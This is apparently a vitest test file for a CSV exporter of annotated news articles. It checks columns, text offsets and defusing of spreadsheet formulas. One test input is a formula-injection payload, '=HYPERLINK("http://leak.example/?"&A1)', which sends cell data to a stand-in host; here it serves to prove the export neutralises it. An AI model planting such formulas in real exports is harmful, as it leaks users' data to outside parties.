import * as fc from 'fast-check';
import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { caseExport, type CaseToExport } from '../../exchange/case-export.ts';
import { csv } from '../../exchange/csv.ts';
import { annotate, articleOf, caseOf, difficultCase, OFFICIAL, TONE } from './long-bridge.ts';

const HEADER =
  'id,outlet,url,headline,published,tags,codes,quote,prefix,suffix,start,end,speaker,own_fields,note,author,article_file,origin,confidence,codebook_version';

function write(contents: CaseToExport): string {
  return csv.write(caseExport(contents));
}

function read(table: string): Record<string, string>[] {
  return Papa.parse<Record<string, string>>(table, { header: true, newline: '\r\n', skipEmptyLines: true }).data;
}

/** The apostrophe taken off again, as docs/formats.md says. */
function undefused(cell: string): string {
  return cell.replace(/^'(?=['\s]*[=+\-@\t\r\n\0＝＋－＠])/u, '');
}

test('one row per annotation, in these columns', () => {
  const article = articleOf(1, ['“Nobody looked,” said Dana Whitlock, who runs a ferry.']);
  annotate(article, '“Nobody looked,”', {
    tags: ['opinion', 'quote'],
    codes: [OFFICIAL.id],
    ownFields: { [TONE.id]: 'harsh' },
    fields: { speakers: ['Dana Whitlock', 'Ola Berg'], speakerKind: 'named person' },
    note: 'Said “nobody”,\r\nmeant "City Hall".',
  });
  const table = write(caseOf(article));
  expect(table.startsWith(`${HEADER}\r\n`)).toBe(true);
  expect(table.endsWith('\r\n')).toBe(true);
  expect(read(table)).toEqual([
    {
      id: '01950000-0000-7000-8000-000000000150',
      outlet: 'Harbour Post',
      url: 'https://post.example/bridge-1',
      headline: 'Council shuts Long Bridge',
      published: '2026-03-14',
      tags: 'quote;opinion',
      codes: 'quote/Official',
      quote: '“Nobody looked,”',
      prefix: '',
      suffix: ' said Da',
      start: '0',
      end: '16',
      speaker: 'Dana Whitlock; Ola Berg',
      own_fields: '{"Tone":"harsh"}',
      note: 'Said “nobody”,\r\nmeant "City Hall".',
      author: 'Mina Løvås',
      article_file: 'articles/01-harbour-post.txt',
      origin: 'hand',
      confidence: '',
      codebook_version: '1',
    },
  ]);
});

test('what a person accepted tells so, with the confidence that it was proposed with', () => {
  const article = articleOf(1, ['Bridge shut.']);
  annotate(article, 'Bridge', { origin: { kind: 'suggestion', confidence: 0.83 } });
  expect(read(write(caseOf(article)))).toMatchObject([{ origin: 'suggestion', confidence: '0.83' }]);
});

test('slicing the text by UTF-16 offsets gives the quote', () => {
  const contents = difficultCase();
  const texts = new Map(caseExport(contents).texts.map(({ path, text }) => [path, text]));
  const rows = read(write(contents));
  expect(rows.length).toBeGreaterThan(20);
  for (const { article_file: file = '', start, end, quote = '' } of rows) {
    expect(texts.get(file)?.slice(Number(start), Number(end))).toBe(undefused(quote));
  }
});

test('words beside the article, and what a page did not say, stay empty', () => {
  const article = articleOf(1, ['Bridge shut.'], { outlet: null, headline: null, published: null });
  annotate(article, 'a comment', { place: 'page' });
  expect(read(write(caseOf(article)))).toMatchObject([
    { quote: 'a comment', outlet: 'post.example', headline: '', published: '', start: '', end: '', article_file: '' },
  ]);
});

test('a case without annotations is a table without rows', () => {
  expect(write(caseOf(articleOf(1, ['Bridge shut.'])))).toBe(`${HEADER}\r\n`);
});

function noteRead(note: string): string | undefined {
  const article = articleOf(1, ['Bridge shut.']);
  annotate(article, 'Bridge', { note });
  return read(write(caseOf(article)))[0]?.['note'];
}

test.each([
  '=HYPERLINK("http://leak.example/?"&A1)',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '＝1',
  '\0=1',
  "'=1",
  "''-1",
])('%j cannot run as a formula, and can be read back', (note) => {
  expect(noteRead(note)).toBe(`'${note}`);
  expect(undefused(noteRead(note) ?? '')).toBe(note);
});

test.each(['', 'a=b', "'Nobody looked'", '“-5 %”', '— =1', 'NUL \0 and\nlines\r\nsurvive\r'])(
  '%j stays as it is',
  (note) => {
    expect(noteRead(note)).toBe(note);
  },
);

const characters = fc.constantFrom(
  "'",
  '=',
  '-',
  '@',
  ' ',
  '\t',
  '\r',
  '\n',
  '\0',
  '"',
  ',',
  ';',
  'a',
  '🚧',
  '\uFEFF',
  '＋',
);

test('any note can be read back, and none begins like a formula', () => {
  fc.assert(
    fc.property(fc.string({ unit: characters }), (note) => {
      const cell = noteRead(note) ?? '';
      expect(cell).not.toMatch(/^\s*[=+\-@\t\r]/u);
      expect(undefused(cell)).toBe(note);
    }),
  );
});
